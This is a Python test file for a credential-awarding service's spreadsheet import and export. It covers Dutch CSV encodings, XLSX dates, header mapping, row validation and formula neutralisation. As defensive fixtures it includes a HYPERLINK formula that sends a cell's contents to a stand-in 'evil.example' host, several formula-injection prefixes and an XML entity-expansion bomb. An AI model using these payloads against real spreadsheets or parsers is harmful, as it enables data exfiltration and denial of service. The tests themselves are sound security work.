"""Reading spreadsheets as offices save them, and writing results they can open safely."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest

from microcred.bulk.export import neutralise, write_csv, write_xlsx
from microcred.bulk.mapping import guess, normalise, resolve
from microcred.bulk.planning import as_date, classify, shape_rows
from microcred.bulk.reading import column_letter, read_sheet
from microcred.problems import BadRequest, PayloadTooLarge

from .files import csv_bytes, xlsx_bytes

HEADER_NL = ["E-mailadres", "Naam", "Cursuscode", "Datum afgerond", "Cijfer"]
ACHIEVEMENT = "11111111-1111-4111-8111-111111111111"
_PUBLISHED = (ACHIEVEMENT, "published")
LOOKUP = {"CNC-101": _PUBLISHED, "cnc-101": _PUBLISHED, ACHIEVEMENT: _PUBLISHED, "DRAFT-1": ("d", "draft"), "OLD-1": ("o", "retired")}


class TestCsv:
    def test_excel_dutch_csv_semicolons_windows_1252_names(self) -> None:
        body = csv_bytes(
            [HEADER_NL, ["zoe@example.org", "Zoë Jansen", "CNC-101", "28-06-2024", "8,5"], ["unal@example.org", "Ünal Yilmaz", "CNC-101", "1-7-2024", "7"]],
            delimiter=";",
            encoding="cp1252",
        )
        with pytest.raises(UnicodeDecodeError):
            body.decode("utf-8")
        sheet = read_sheet(body, max_rows=100)
        assert (sheet.format, sheet.encoding, sheet.delimiter) == ("csv", "cp1252", ";")
        assert sheet.header == tuple(HEADER_NL)
        assert [r.cells[1] for r in sheet.rows] == ["Zoë Jansen", "Ünal Yilmaz"]
        assert sheet.rows[0].cells[4] == "8,5"
        assert [r.number for r in sheet.rows] == [2, 3]

    def test_utf8_with_bom_and_quoted_newlines_keep_excel_row_numbers(self) -> None:
        body = csv_bytes(
            [["email", "name", "achievement", "completion_date"], ["a@example.org", "Ada\nLovelace", "CNC-101", "2024-06-28"], ["b@example.org", "Bo", "CNC-101", "2024-06-28"]],
            bom=True,
        )
        sheet = read_sheet(body, max_rows=100)
        assert sheet.header[0] == "email"  # no BOM glued to the first column name
        assert sheet.rows[0].cells[1] == "Ada\nLovelace"
        assert [r.number for r in sheet.rows] == [2, 3]  # the record, as Excel shows it: one row

    def test_row_limit_and_empty_files_are_refused_with_a_reason(self) -> None:
        body = csv_bytes([["email"], *[[f"{i}@example.org"] for i in range(5)]])
        with pytest.raises(PayloadTooLarge):
            read_sheet(body, max_rows=4)
        with pytest.raises(BadRequest, match="no rows"):
            read_sheet(b"email;name\r\n;\r\n", max_rows=4)
        with pytest.raises(BadRequest, match="xls"):
            read_sheet(b"\xd0\xcf\x11\xe0rest", max_rows=4)


class TestXlsx:
    def test_dates_formatted_or_as_serial_numbers_are_dates(self) -> None:
        rows = [["email", "completion_date"], ["a@example.org", date(2024, 6, 28)]]
        for serial in (False, True):
            sheet = read_sheet(xlsx_bytes(rows, date_columns=[1], serial_dates=serial), max_rows=10)
            cell = sheet.rows[0].cells[1]
            assert (cell == 45471) if serial else (cell is not None)
            assert as_date(cell, order="dmy") == date(2024, 6, 28)

    def test_a_formula_cell_is_its_text_never_a_calculated_value(self) -> None:
        formula = '=HYPERLINK("https://evil.example/?"&A2,"Zoë")'
        sheet = read_sheet(xlsx_bytes([["email", "name"], ["a@example.org", formula]]), max_rows=10)
        assert sheet.rows[0].cells[1] == formula


    def test_a_workbook_with_an_entity_bomb_is_refused_not_expanded(self) -> None:
        bomb = (
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row></sheetData></worksheet>'
        )
        source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["email"], ["a@example.org"]])))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for item in source.infolist():
                data = bomb.encode() if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
                target.writestr(item, data)
        with pytest.raises(BadRequest, match="not an XLSX workbook"):
            read_sheet(out.getvalue(), max_rows=10)

    def test_broken_zip_is_refused(self) -> None:
        with pytest.raises(BadRequest, match="not an XLSX workbook"):
            read_sheet(b"PK\x03\x04 not really a zip", max_rows=10)


class TestMapping:
    def test_english_dutch_and_api_headers_are_guessed(self) -> None:
        assert guess(HEADER_NL) == {"email": 0, "name": 1, "achievement": 2, "completion_date": 3, "grade": 4}
        assert guess(["recipient_email", "recipient_name", "achievement_id", "completion_date", "external_id"]) == {
            "email": 0, "name": 1, "achievement": 2, "completion_date": 3, "external_id": 4,
        }

    def test_header_names_are_compared_without_case_accents_or_punctuation(self) -> None:
        assert normalise(" E-mail Adrés ") == "emailadres" and normalise("Geldig_tot") == "geldigtot"

    def test_the_remembered_choice_wins_where_the_file_has_that_column(self) -> None:
        header = ["Mail", "Deelnemer", "Code", "Datum", "Afgerond op"]
        assert resolve(header, {"completion_date": "Afgerond op", "grade": "Not here"})["completion_date"] == 4
        assert resolve(header, None)["completion_date"] == 3


class TestPlanning:
    def _plans(self, rows: list[list[object]], header: list[str] = HEADER_NL) -> list:  # type: ignore[type-arg]
        sheet = read_sheet(xlsx_bytes([header, *rows]), max_rows=100)
        return shape_rows(sheet, columns=guess(sheet.header), order="dmy", achievements=LOOKUP)

    def test_errors_name_the_cell(self) -> None:
        plans = self._plans(
            [
                ["zoe@example.org", "Zoë", "CNC-101", "28-06-2024", 8.5],
                ["not-an-email", "Bo", "cnc-101", "28-06-2024", 7],
                ["cy@example.org", "Cy", "NOPE", "28-06-2024", 7],
                ["dee@example.org", "Dee", "CNC-101", "tomorrow", 7],
                ["eve@example.org", "Eve", "DRAFT-1", "2024-06-28", 7],
                ["fay@example.org", '=HYPERLINK("https://x.example","Fay")', "CNC-101", date(2024, 6, 28), 7],
                ["gus@example.org", "Gus", "OLD-1", "2024-06-28", 7],
            ]
        )
        assert plans[0].errors == [] and plans[0].payload == {
            "achievement_id": ACHIEVEMENT, "recipient": {"email": "zoe@example.org", "name": "Zoë"}, "completion_date": "2024-06-28",
            "result": {"value": "8.5"},
        }
        assert plans[1].errors[0].startswith("A3: ")
        assert plans[2].errors == ["C4: no achievement has the course code or id 'NOPE'"]
        assert plans[3].errors[0].startswith("D5: not a date")
        assert plans[4].errors == ["C6: the achievement 'DRAFT-1' is not published"]
        assert plans[5].errors[0].startswith("B7: a formula, not a value (=HYPERLINK(")
        assert plans[6].errors == ["C8: the achievement 'OLD-1' is retired: it awards no new credentials"]

    def test_duplicates_of_earlier_rows_and_of_credentials(self) -> None:
        row = ["zoe@example.org", "Zoë", "CNC-101", "28-06-2024", 8]
        plans = self._plans([row, row, [*row[:4], 9], ["bo@example.org", "Bo", "CNC-101", "28-06-2024", 8]])
        classify(plans, awarded={plans[3].key: ("cred-1", plans[3].digest)}, awarded_external={})
        assert [p.outcome for p in plans] == ["award", "duplicate", "error", "duplicate"]
        assert (plans[1].earlier_row, plans[3].credential_id) == (2, "cred-1")
        assert "as row 2" in plans[2].errors[0]

    def test_month_first_dates_when_the_issuer_writes_them_so(self) -> None:
        assert as_date("06/28/2024", order="mdy") == as_date("28/06/2024", order="dmy") == date(2024, 6, 28)
        with pytest.raises(ValueError, match="not a date"):
            as_date("31-02-2024", order="dmy")


def test_column_letters() -> None:
    assert [column_letter(i) for i in (0, 25, 26, 27, 701, 702)] == ["A", "Z", "AA", "AB", "ZZ", "AAA"]


class TestExport:
    ROWS = [[2, '=HYPERLINK("https://evil.example","x")', "+31 6", "-1", "@SUM(A1)", "\tx", "plain"]]

    def test_no_cell_of_a_csv_starts_a_formula(self) -> None:
        text = write_csv(["a"] * 7, self.ROWS, delimiter=";").decode("utf-8-sig")
        cells = text.splitlines()[1].split(";")
        assert cells[0] == "2" and cells[-1] == "plain"
        assert all(c.lstrip('"').startswith("'") for c in cells[1:6])
        assert neutralise("Zoë") == "Zoë"

    def test_no_cell_of_an_xlsx_is_a_formula(self) -> None:
        from openpyxl import load_workbook

        body = write_xlsx(["Row", "Name", "b", "c", "d", "e", "f"], self.ROWS, title="Results")
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml
        sheet = load_workbook(io.BytesIO(body)).active
        assert sheet is not None
        cell = sheet["B2"]
        assert cell.data_type == "s" and cell.value == "'" + self.ROWS[0][1]  # type: ignore[operator]
